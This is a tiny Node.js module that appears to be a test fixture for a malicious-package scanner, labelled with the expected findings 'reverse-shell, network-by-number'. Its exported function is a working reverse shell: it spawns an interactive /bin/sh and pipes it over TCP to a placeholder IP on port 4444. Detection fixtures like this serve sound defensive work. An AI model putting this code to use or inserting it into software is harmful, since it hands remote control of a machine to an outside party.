// expect: reverse-shell, network-by-number
const net = require("net");
const { spawn } = require("child_process");

module.exports = () => {
  const shell = spawn("/bin/sh", ["-i"]);
  const socket = net.connect(4444, "198.51.100.23", () => {
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
  });
};
